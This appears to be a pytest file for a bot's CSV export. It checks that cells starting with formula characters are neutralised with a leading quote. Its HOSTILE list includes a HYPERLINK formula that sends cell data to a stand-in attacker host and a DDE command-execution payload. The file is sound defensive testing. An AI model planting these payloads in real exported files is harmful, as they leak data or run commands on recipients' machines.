"""Formula neutralisation: a resident's comment never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from bot.records.csv_cells import csv_bytes, csv_text, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_starts_get_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Lovely lights", "a=b", " =not a formula start", "'already quoted", "", "5"]
)
def test_ordinary_cells_are_untouched(cell: str) -> None:
    assert neutralise(cell) == cell


def test_none_booleans_and_numbers() -> None:
    assert neutralise(None) == ""
    assert neutralise(True) == "true"
    assert neutralise(42) == "42"
    assert neutralise(-1) == "'-1"


def test_a_whole_document_reads_back_with_every_cell_inert() -> None:
    rows = [[cell, "x\ny", 'quote " inside', "<!channel> \u202e"] for cell in HOSTILE]
    text = csv_text(["=header", "b", "c", "d"], rows)
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == ["'=header", "b", "c", "d"]
    for original, back in zip(rows, read[1:], strict=True):
        assert back[0] == "'" + original[0]
        assert back[1:] == original[1:]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in read for cell in row
    )


def test_bytes_carry_a_bom_for_excel() -> None:
    assert csv_bytes(["a"], [["é"]]).startswith(b"\xef\xbb\xbf")
